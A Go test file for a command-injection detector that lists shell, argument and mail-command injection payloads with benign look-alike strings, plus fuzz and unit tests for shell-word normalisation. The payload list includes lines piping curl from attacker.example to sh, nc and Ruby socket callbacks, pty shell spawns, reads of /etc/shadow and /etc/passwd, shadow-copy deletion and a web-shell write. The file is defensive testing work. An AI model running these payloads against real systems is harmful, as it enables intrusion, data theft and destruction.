package tier1

import (
	"strings"
	"testing"
)

// OS command injection forms that need shell semantics to see: command,
// process and arithmetic substitution, brace expansion, names split by
// quotes and empty expansions, administration tools after a separator,
// cmd.exe syntax and mail protocol commands; and the text near them that
// is no attack.
func init() {
	attacks = append(attacks,
		// A value that is one command substitution runs it.
		attackEntry{lQ, "name", "$(reboot)", "cmdi", encAll},
		attackEntry{lJ, "tag", "$(sh)", "cmdi", encURL},
		// Process substitution runs the command and names its output.
		attackEntry{lQ, "file", "<(curl -s attacker.example/x)", "cmdi", encAll},
		attackEntry{lJ, "log", ">(nc 203.0.113.5 9001)", "cmdi", encURL},
		// Legacy arithmetic expansion, a probe for shell evaluation.
		attackEntry{lQ, "n", "$[7*7]", "cmdi", encAll},
		attackEntry{lF, "n", "$[1337+1]", "cmdi", 0},
		// Brace expansion that assembles a command and its flags.
		attackEntry{lQ, "dir", "{l,-la}s", "cmdi", encAll},
		attackEntry{lQ, "f", "c{a,x}t /etc/hosts", "cmdi", encAll},
		attackEntry{lQ, "f", "{/???/c?t,} /e??/hosts", "cmdi", encAll},
		// Names split by empty expansions, quotes and backslashes.
		attackEntry{lQ, "q", "whoa$$mi", "cmdi", encURL},
		attackEntry{lQ, "q", "ifcon${x}fig", "cmdi", encURL},
		attackEntry{lJ, "q", "uname$z -a", "cmdi", encURL},
		attackEntry{lJ, "q", `n\c$u -lvp 4444`, "cmdi", 0},
		attackEntry{lJ, "q", `""p""e""r""l"" -v`, "cmdi", 0},
		attackEntry{lQ, "host", "who<()ami", "cmdi", encURL},
		attackEntry{lJ, "host", "10.0.0.8;c$@at+/et$@c/host$@s", "cmdi", 0},
		attackEntry{lQ, "v", "a='l';cu$a\\r\\l attacker.example", "cmdi", encURL},
		attackEntry{lQ, "q", "python3.11 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi", encAll},
		attackEntry{lQ, "host", "x;python3.12 -m http.server 8000", "cmdi", encAll},
		// Argument injection: options that run a command or write a
		// file, where a back end passes the value to a program.
		attackEntry{lQ, "repo", "-oProxyCommand=touch /tmp/pwned", "argument-injection", encAll},
		attackEntry{lJ, "repo", "ssh://-oProxyCommand=curl${IFS}x.example|sh/x", "argument-injection", 0},
		attackEntry{lJ, "repo", "--upload-pack=touch /tmp/pwned", "argument-injection", 0},
		attackEntry{lQ, "file", "--checkpoint-action=exec=sh shell.sh", "argument-injection", encURL},
		attackEntry{lF, "email", "\"a\\\" -oQ/tmp/ -X/var/www/html/shell.php b\"@example.com", "argument-injection", encURL},
		attackEntry{lQ, "url", "--post-file=/etc/passwd", "argument-injection", encURL},
		attackEntry{lJ, "args", "--gpu-launcher=\"id>/tmp/x\"", "argument-injection", 0},
		// commix's time-based probe; assignments, subshells, groups and
		// compound commands before the command; a substitution as a
		// command's argument; code glued to a flag; the shell's own
		// variables.
		attackEntry{lQ, "host", ";str=$(echo NEGGOI);str1=$(expr length \"$str\");if [ 6 != $str1 ];then sleep 0;else sleep 5;fi", "cmdi", encURL},
		attackEntry{lQ, "host", ";x=$(whoami)", "cmdi", encAll},
		attackEntry{lQ, "host", ";(id)", "cmdi", encAll},
		attackEntry{lJ, "host", "|(sleep 5)", "cmdi", 0},
		attackEntry{lQ, "host", ";{ id; }", "cmdi", encURL},
		attackEntry{lQ, "host", "1;if true;then id;fi", "cmdi", encURL},
		attackEntry{lQ, "host", "nslookup `whoami`.x.oast.example", "cmdi", encURL},
		attackEntry{lQ, "host", ";ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i'", "cmdi", encURL},
		attackEntry{lQ, "host", ";$BASH -c id", "cmdi", encURL},
		attackEntry{lQ, "host", ";$0 -c id", "cmdi", encURL},
		// Paths spelled with repeated slashes or dot segments, which
		// the kernel resolves to the plain one.
		attackEntry{lQ, "host", ";//bin/id", "cmdi", encAll},
		attackEntry{lQ, "host", "x;/bin/./id", "cmdi", encURL},
		attackEntry{lJ, "host", "1|//usr//bin//whoami", "cmdi", 0},
		attackEntry{lQ, "host", "a && /usr/bin/../bin/uname -a", "cmdi", encURL},
		attackEntry{lQ, "host", ";/usr/local//bin/kubectl get secrets -A", "cmdi", encURL},
		// Administration tools after a separator.
		attackEntry{lQ, "host", "10.0.0.5; ansible all -i 10.0.0.5, -m shell -a id", "cmdi", encAll},
		attackEntry{lQ, "host", "1;chef-client -z", "cmdi", encAll},
		attackEntry{lQ, "host", "10.1.1.1&&visudo", "cmdi", encAll},
		attackEntry{lJ, "key", "a.pub;ssh-copy-id root@203.0.113.8", "cmdi", encURL},
		attackEntry{lQ, "p", "&aptitude", "cmdi", encURL},
		attackEntry{lQ, "p", "view=1&vssadmin delete shadows /all /quiet", "cmdi", encURL},
		attackEntry{lQ, "p", "img.png&bcdedit/set safeboot minimal", "cmdi", encURL},
		// English words that are commands glued to a separator.
		attackEntry{lQ, "d", ";date -f /etc/shadow", "cmdi", encAll},
		attackEntry{lQ, "d", "1;at now -f /tmp/x.sh", "cmdi", encAll},
		attackEntry{lJ, "d", ";trap 'curl attacker.example|sh' EXIT", "cmdi", encURL},
		attackEntry{lQ, "d", "127.0.0.1;set", "cmdi", encAll},
		attackEntry{lQ, "d", ";top", "cmdi", encURL},
		attackEntry{lJ, "d", ";ex -c ':!id'", "cmdi", encURL},
		attackEntry{lQ, "d", ";chmod +x /tmp/a", "cmdi", encURL},
		// Shell builtins and tricks.
		attackEntry{lQ, "q", "alias cat='curl'", "cmdi", encAll},
		attackEntry{lJ, "q", "alias -g x=y", "cmdi", 0},
		attackEntry{lQ, "q", "alias l=n${u}c", "cmdi", encURL},
		attackEntry{lQ, "q", "c99 -wrapper /bin/sh,-c,id .", "cmdi", encAll},
		attackEntry{lQ, "q", "!-2!-1", "cmdi", encAll},
		attackEntry{lQ, "q", "tac${HOME:0:1}etc${HOME:0:1}hosts", "cmdi", encAll},
		attackEntry{lQ, "q", "1;\n.dump", "cmdi", encURL},
		attackEntry{lQ, "q", "1;\r\n.tables", "cmdi", encURL},
		attackEntry{lJ, "q", "1;\\n.load /tmp/x.so", "cmdi", 0},
		attackEntry{lH, "referer", "() {", "cmdi", 0},
		attackEntry{lC, "pref", "() { ignored; }; echo x", "cmdi", 0},
		// Outside headers the definition must end and a command follow.
		attackEntry{lJ, "env", "() { :; }; /bin/id", "cmdi", 0},
		attackEntry{lQ, "x", "() { :;}; echo vulnerable", "cmdi", encAll},
		// CVE-2014-6278: a redirection after the definition.
		attackEntry{lQ, "x", "() { _; } >_[$($())] { id; }", "cmdi", encAll},
		// '+' for every space, as a form encoder writes them.
		attackEntry{lQ, "q", ";+cat+/e't'*/pa'?s'wd", "cmdi", encURL},
		attackEntry{lJ, "q", "cat+/et*/*wd", "cmdi", 0},
		// cmd.exe.
		attackEntry{lQ, "q", "for /f %% in (list.txt) do del %%", "cmdi", encAll},
		attackEntry{lQ, "q", "if/i %os%==windows_nt del x", "cmdi", encAll},
		// IMAP commands whatever the tag.
		attackEntry{lQ, "subject", "hi\r\nz store 1:* +FLAGS.SILENT (\\Deleted)\r\n", "mail-command-injection", encURL},
		attackEntry{lJ, "subject", "hi\r\nq uid fetch 1:* (BODY[])\r\n", "mail-command-injection", 0},
		// A command in a parameter's name.
		attackEntry{lN, "query parameter", "x;cat /etc/passwd", "cmdi", 0},
		// A bare command alone on its line counts in a body field too.
		attackEntry{lJ, "subject", "\r\nQUIT", "mail-command-injection", 0},
		attackEntry{lX, "/order/note", "\nDATA", "mail-command-injection", 0},
		attackEntry{lX, "/order/note", "  \nLIST 3", "mail-command-injection", 0},
	)
	benign = append(benign,
		// Substitutions and expansions quoted in text, templates and
		// build files.
		corpusEntry{lJ, "body", "Use $(pwd) to get the current directory"},
		// Sort keys, build flags, output formats, temperatures.
		corpusEntry{lQ, "sort", "-created_at"},
		corpusEntry{lJ, "args", "--no-cache --pull"},
		corpusEntry{lQ, "format", "--output=table"},
		corpusEntry{lJ, "note", "-5 degrees, feels like -10"},
		corpusEntry{lJ, "doc", "git config core.editor vim"},
		// Prose with parentheses and keywords after a semicolon, a
		// shell line with a condition, a variable's name.
		corpusEntry{lQ, "q", "Hello; (id est) the point"},
		corpusEntry{lJ, "note", "(see note); (optional) then continue"},
		corpusEntry{lJ, "doc", "The $0 variable holds the script name"},
		corpusEntry{lQ, "q", "\"--- FAIL: \""},
		// A URL's "//" and a code comment's are no path to resolve.
		corpusEntry{lJ, "note", "see https://example.com//a/./b; and // the id of the user"},
		corpusEntry{lJ, "code", "int x = 1; // id of the row"},
		corpusEntry{lJ, "body", "In bash, $(cmd) runs cmd and ${var} expands a variable"},
		corpusEntry{lJ, "path", "${HOME}/.config/app.yaml"},
		corpusEntry{lQ, "tpl", "${name}"},
		corpusEntry{lJ, "greeting", "Hello ${user.firstName}!"},
		corpusEntry{lJ, "cmd", "$(CC) $(CFLAGS) -o $@ $^"},
		corpusEntry{lJ, "dir", "$(Build.SourcesDirectory)"},
		corpusEntry{lJ, "sel", "$(this)"},
		corpusEntry{lJ, "image", "$(tag)"},
		corpusEntry{lJ, "tags", "python;ansible"},
		corpusEntry{lQ, "tags", "devops;chef-client;docker"},
		corpusEntry{lJ, "path", "$[0].name"},
		corpusEntry{lJ, "field", "grades.$[]"},
		corpusEntry{lJ, "field", "items.$[elem].qty"},
		corpusEntry{lJ, "note", "Process substitution looks like diff <(sort a) <(sort b) in the manual"},
		// Braces in globs, lists and field selections.
		corpusEntry{lQ, "glob", "src/**/*.{js,ts}"},
		corpusEntry{lQ, "fields", "fields={name,email}"},
		corpusEntry{lQ, "re", "c{1,2}"},
		// Words that are commands, alone or in prose.
		corpusEntry{lJ, "body", "Results\nData\nsee the table"},
		corpusEntry{lJ, "body", "Press Esc, then\nQuit"},
		corpusEntry{lX, "/menu/item", "\nQuit\nHelp me"},
		// Pretty-printed XML: element text between line breaks.
		corpusEntry{lX, "/c/category", "\n  Data\n"},
		corpusEntry{lX, "/c/cmd", "\n  QUIT\n"},
		corpusEntry{lQ, "q", "visudo"},
		corpusEntry{lJ, "body", "Run visudo to edit the sudoers file"},
		corpusEntry{lQ, "q", "id"},
		corpusEntry{lQ, "q", "4"},
		corpusEntry{lQ, "file", "settings.php"},
		corpusEntry{lQ, "q", "pip install requests"},
		corpusEntry{lQ, "q", "ls foo bar"},
		corpusEntry{lJ, "body", "python3.10 is required"},
		corpusEntry{lJ, "body", "set -o pipefail"},
		corpusEntry{lJ, "body", "| apt-get | Debian |\n| dnf | Fedora |"},
		corpusEntry{lJ, "body", "Steps: update; apt-get install -y curl"},
		corpusEntry{lJ, "body", "Lunch;at 12:30 in the canteen"},
		corpusEntry{lJ, "style", "position:absolute;top"},
		corpusEntry{lJ, "body", "Ready; set; go!"},
		corpusEntry{lJ, "body", "alias name=value defines an alias"},
		corpusEntry{lJ, "rc", "alias ll='ls -la'"},
		corpusEntry{lQ, "yaml", "top2: &node2 # comment"},
		// History, tilde and quote look-alikes.
		corpusEntry{lQ, "q", "~+"},
		corpusEntry{lJ, "body", "wow!!"},
		corpusEntry{lQ, "q", "!1"},
		corpusEntry{lJ, "body", "Ranked !-1 in the list"},
		corpusEntry{lJ, "price", "US$100"},
		corpusEntry{lF, "password", "Ps$word"},
		corpusEntry{lF, "password", "Id$ecret!"},
		corpusEntry{lJ, "name", "O''Brien"},
		corpusEntry{lJ, "body", "rock'n'roll don't stop"},
		corpusEntry{lJ, "body", "Mind your p's and q's"},
		corpusEntry{lJ, "body", "x = a[0];\n.then(done)"},
		corpusEntry{lJ, "body", "Line one\nI store 2 boxes (big)"},
		corpusEntry{lJ, "body", "Notes\nWe store 2 flags (dirty, valid)\nWe fetch 3 envelopes a day"},
		corpusEntry{lJ, "body", "for %% in (a) the rate is fixed"},
		corpusEntry{lJ, "code", "$(document).ready(function(){ $(this).hide() })"},
		corpusEntry{lJ, "code", "() { return 1 }"},
		corpusEntry{lJ, "code", "() { return a } || b"},
		corpusEntry{lJ, "code", "() { return <ul>{items}</ul> }"},
		corpusEntry{lJ, "code", "() {\n  return fetch(url);\n}"},
		corpusEntry{lQ, "q", "c++/stl+vector+sort"},
		corpusEntry{lQ, "tags", "linux+cat+grep"},
		corpusEntry{lH, "user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"},
		corpusEntry{lJ, "math", "1+/2*/3"},
	)
}

// FuzzCmdiShell checks that the shell-word helpers of cmdi.go, which index
// into values, never panic and only shrink what they rewrite.
func FuzzCmdiShell(f *testing.F) {
	for _, e := range attacks {
		if e.rule == "cmdi" {
			f.Add(strings.ToLower(e.value))
		}
	}
	for _, s := range []string{"$", "a$", "a${", "a${}", "a$$", "{", "{,}", "a{,", "alias x=", "$()", "<()", "x;", "!-", "a${a${", "a${b}c${", "\n\n;", "a\n;ls"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if d := dropWordVars(s); len(d) > len(s) {
			t.Fatalf("dropWordVars(%q) = %q grew", s, d)
		}
		if d := deshell(s); len(d) > len(s) {
			t.Fatalf("deshell(%q) = %q grew", s, d)
		}
		// What the matchers return is quoted from the value.
		for _, m := range []string{splitCmd(s), braceCmd(s), aliasCmd(s), substWhole(s), canonCmd(s)} {
			if !strings.Contains(s, m) {
				t.Fatalf("%q: match %q is not in the value", s, m)
			}
		}
		if endsWithVar(s) && strings.IndexByte(s, '$') < 0 {
			t.Fatalf("endsWithVar(%q) without a $", s)
		}
	})
}

// TestShellWords checks the rewriting the shell-word helpers do: what a
// shell leaves of a word, and which splits are deliberate.
func TestShellWords(t *testing.T) {
	for _, tt := range []struct {
		in, deshelled string
		split         bool
	}{
		{"una$$me", "uname", true},
		{"uname$u", "uname", true},
		{"c${x}at", "cat", true},
		{`n$u\c$u`, "nc", true},
		{`""p""y`, "py", true},
		{"pi<()ng", "ping", true},
		{"c'a't", "cat", true},
		{"c$_at", "cat", true},
		{"p's", "ps", false},          // an apostrophe
		{`"id"`, "id", false},         // quoted, not split
		{"$home/x", "$home/x", false}, // a variable that starts the word stays
		{"us$100", "us00", true},
	} {
		if got := shellNoise.Replace(dropWordVars(tt.in)); got != tt.deshelled {
			t.Errorf("deshelled %q = %q, want %q", tt.in, got, tt.deshelled)
		}
		if got := deliberateSplit(tt.in); got != tt.split {
			t.Errorf("deliberateSplit(%q) = %v, want %v", tt.in, got, tt.split)
		}
	}
	for in, want := range map[string]string{"python3.10": "python", "php8.2": "php", "node2": "node2", "python3": "python3", "gcc7.4": "gcc7.4"} {
		if got := canonCmd(in); got != want {
			t.Errorf("canonCmd(%q) = %q, want %q", in, got, want)
		}
	}
}
